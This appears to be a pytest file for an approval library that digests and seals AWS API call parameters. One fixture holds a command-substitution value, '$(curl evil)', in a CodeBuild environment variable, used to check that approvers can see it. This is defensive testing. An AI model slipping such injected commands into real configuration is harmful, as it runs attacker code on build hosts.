"""The same call always gives the same digest, and any other call another one."""

from __future__ import annotations

import io
import json
from dataclasses import replace
from datetime import datetime, timedelta, timezone
from decimal import Decimal

import botocore.session
import pytest

from fourEyes.call import Call, Caller, Presign
from fourEyes.errors import IntentError
from fourEyes.intent import Intent, params_digest
from fourEyes.intent.canonical import params_tree

KEY = b"k" * 32
SESSION = botocore.session.Session()


def shape(service: str, operation: str):
    return SESSION.get_service_model(service).operation_model(operation).input_shape


def digest(params, service="dynamodb", operation="PutItem", key=KEY) -> str:
    return params_digest(service, operation, params_tree(params, shape(service, operation), key))


def item(value) -> dict:
    return {"TableName": "t", "Item": {"pk": value}}


def test_order_of_members_does_not_matter_but_order_of_lists_does() -> None:
    assert digest({"TableName": "t", "Item": {}}) == digest({"Item": {}, "TableName": "t"})
    one, other = item({"L": [{"S": "a"}, {"S": "b"}]}), item({"L": [{"S": "b"}, {"S": "a"}]})
    assert digest(one) != digest(other)


def test_bytes_text_and_streams_of_the_same_content_are_the_same_blob() -> None:
    stream = io.BytesIO(b"skip" + b"body")
    stream.seek(4)
    digests = {
        digest({"Bucket": "b", "Key": "k", "Body": body}, "s3", "PutObject")
        for body in (b"body", "body", bytearray(b"body"), stream)
    }
    assert len(digests) == 1
    assert stream.tell() == 4


def test_a_stream_that_cannot_be_rewound_is_refused() -> None:
    class OneWay(io.RawIOBase):
        def readable(self):
            return True

    with pytest.raises(IntentError, match="seekable"):
        digest({"Bucket": "b", "Key": "k", "Body": OneWay()}, "s3", "PutObject")


def test_one_and_one_point_nought_and_true_and_text_all_differ() -> None:
    trees = [params_tree({"x": value}, None, KEY) for value in (1, 1.0, True, "1", Decimal(1))]
    assert len({params_digest("s", "O", tree) for tree in trees}) == len(trees)


def test_big_integers_are_not_rounded() -> None:
    one, other = (params_tree({"x": 2**53 + step}, None, KEY) for step in (0, 1))
    assert one != other


def test_one_instant_in_two_time_zones_is_one_instant() -> None:
    utc = datetime(2026, 11, 21, 23, 6, tzinfo=timezone.utc)
    east = utc.astimezone(timezone(timedelta(hours=8)))
    trees = [
        params_tree(
            {
                "SourceDBInstanceIdentifier": "a",
                "TargetDBInstanceIdentifier": "b",
                "RestoreTime": t,
            },
            shape("rds", "RestoreDBInstanceToPointInTime"),
            KEY,
        )
        for t in (utc, east, utc.isoformat())
    ]
    assert trees[0] == trees[1] == trees[2]


def test_names_that_differ_only_by_unicode_normalisation_are_two_things() -> None:
    keys = ("caf\u00e9", "cafe\u0301")
    digests = {digest({"Bucket": "b", "Key": key}, "s3", "DeleteObject") for key in keys}
    assert len(digests) == 2


def test_idempotency_tokens_are_left_out_also_a_callers_own() -> None:
    params = {"ImageId": "ami-1", "MinCount": 1, "MaxCount": 1}
    given = {**params, "ClientToken": "mine"}
    assert digest(params, "ec2", "RunInstances") == digest(given, "ec2", "RunInstances")


@pytest.mark.parametrize(
    ("service", "operation", "name"),
    [
        ("athena", "DeleteNamedQuery", "NamedQueryId"),
        ("athena", "StopQueryExecution", "QueryExecutionId"),
        ("bedrock-agentcore", "InvokeAgentRuntimeCommand", "runtimeSessionId"),
    ],
)
def test_what_a_call_is_about_is_no_token_whatever_its_trait(service, operation, name) -> None:
    assert shape(service, operation).members[name].metadata["idempotencyToken"]
    one, other = ({name: f"{which}-0123456789" * 4} for which in ("scratch", "prod"))
    assert digest(one, service, operation) != digest(other, service, operation)


def test_sensitive_members_are_sealed_yet_tell_two_values_apart() -> None:
    def modify(password: str, key: bytes = KEY) -> str:
        params = {"DBInstanceIdentifier": "d", "MasterUserPassword": password}
        tree = params_tree(params, shape("rds", "ModifyDBInstance"), key)
        assert password not in str(tree)
        return params_digest("rds", "ModifyDBInstance", tree)

    assert modify("hunter2") == modify("hunter2")
    assert modify("hunter2") != modify("hunter3")
    assert modify("hunter2") != modify("hunter2", b"o" * 32)


@pytest.mark.parametrize(
    ("service", "operation", "member"),
    [
        ("elasticache", "ModifyReplicationGroup", {"AuthToken": "hunter2"}),
        ("elasticache", "ModifyUser", {"Passwords": ["hunter2", "hunter3"]}),
        ("pinpoint", "UpdateGcmChannel", {"GCMChannelRequest": {"ApiKey": "hunter2"}}),
    ],
)
def test_members_named_like_a_secret_are_sealed_too(service, operation, member) -> None:
    model = shape(service, operation)
    assert "hunter2" not in str(params_tree(member, model, KEY))
    other = json.loads(json.dumps(member).replace("hunter2", "hunter4"))
    assert digest(member, service, operation) != digest(other, service, operation)


@pytest.mark.parametrize(
    ("service", "operation", "member"),
    [
        ("elasticache", "ModifyReplicationGroup", {"AuthTokenUpdateStrategy": "DELETE"}),
        ("iam", "UpdateSAMLProvider", {"RemovePrivateKey": "key-1"}),
        ("mediapackage", "UpdateOriginEndpoint",
         {"Authorization": {"CdnIdentifierSecret": "arn:aws:secretsmanager:::secret:x"}}),
        ("secretsmanager", "DeleteSecret", {"SecretId": "prod/key"}),
        ("cloudcontrol", "CancelResourceRequest", {"RequestToken": "request-1"}),
        ("codebuild", "UpdateProject", {"environment": {"environmentVariables": [
            {"name": "PASSWORD", "value": "$(curl evil)"}]}}),
    ],
)  # fmt: skip
def test_what_an_approver_has_to_see_is_not_sealed(service, operation, member) -> None:
    assert "hmac_sha256" not in str(params_tree(member, shape(service, operation), KEY))


@pytest.mark.parametrize(
    "params",
    [
        {"TableName": "t", "Item": {}, "Nonsense": 1},
        {"TableName": 7, "Item": {}},
        {"TableName": "t", "Item": []},
        {"TableName": "t", "Item": {1: {"S": "a"}}},
        {"TableName": "t", "Item": {"pk": {"S": "\ud800"}}},
        {"TableName": "t", "Item": {"pk": {"BOOL": "true"}}},
        {"TableName": object(), "Item": {}},
    ],
    ids=["unknown member", "wrong type", "list for map", "key no text", "surrogate", "bool", "odd"],
)
def test_what_cannot_be_said_exactly_is_refused(params) -> None:
    with pytest.raises(IntentError):
        digest(params)


def test_params_nested_without_end_are_refused() -> None:
    value: dict = {"S": "x"}
    for _ in range(70):
        value = {"L": [value]}
    with pytest.raises(IntentError, match="deeper"):
        digest(item(value))


def test_numbers_that_are_none_are_refused() -> None:
    for value in (float("nan"), float("inf"), Decimal("NaN")):
        with pytest.raises(IntentError):
            params_tree({"x": value}, None, KEY)


CALL = Call(
    "s3",
    "DeleteObject",
    {"Bucket": "b", "Key": "k"},
    "eu-west-1",
    model=SESSION.get_service_model("s3").operation_model("DeleteObject"),
)
CALLER = Caller(
    "kiro",
    "aws",
    "111111111111",
    "arn:aws:sts::111111111111:assumed-role/agent",
    "arn:aws:sts::111111111111:assumed-role/agent/s1",
    "svc",
)


def intent(call: Call = CALL, caller: Caller = CALLER, claim: str | None = None) -> Intent:
    return Intent.of(
        call,
        caller,
        effect="delete",
        hazards=(),
        environment="prod",
        resources=("arn:aws:s3:::b/k",),
        secret_key=KEY,
        claim=claim,
    )


@pytest.mark.parametrize(
    "other",
    [
        intent(CALL._replace(region="eu-west-2")),
        intent(CALL._replace(endpoint="https://proxy:443")),
        intent(CALL._replace(params={"Bucket": "b", "Key": "k2"})),
        intent(CALL._replace(presign=Presign("DELETE", 60))),
        intent(caller=replace(CALLER, partition="aws-cn")),
        intent(caller=replace(CALLER, account="222222222222")),
        intent(caller=replace(CALLER, principal="arn:aws:iam::111111111111:user/x")),
        intent(caller=replace(CALLER, agent="q")),
    ],
    ids=["region", "endpoint", "params", "presign", "partition", "account", "principal", "agent"],
)
def test_another_call_has_another_digest(other: Intent) -> None:
    assert other.digest != intent().digest


@pytest.mark.parametrize(
    "other",
    [
        intent(caller=replace(CALLER, session=CALLER.session + "2")),
        intent(caller=replace(CALLER, os_user="root")),
        intent(claim="INC-4711"),
    ],
    ids=["fresh role session", "other process", "other reason"],
)
def test_a_fresh_process_has_the_same_digest(other: Intent) -> None:
    assert other.digest == intent().digest


def test_a_request_document_brings_back_the_intent_it_came_from() -> None:
    original = intent(claim="INC-4711")
    document = {**original.to_request(), "id": "req_X"}
    restored = Intent.from_request(document, "kiro")
    assert restored == original
    assert restored.is_consistent()
    assert not Intent.from_request({**document, "region": "us-east-1"}, "kiro").is_consistent()
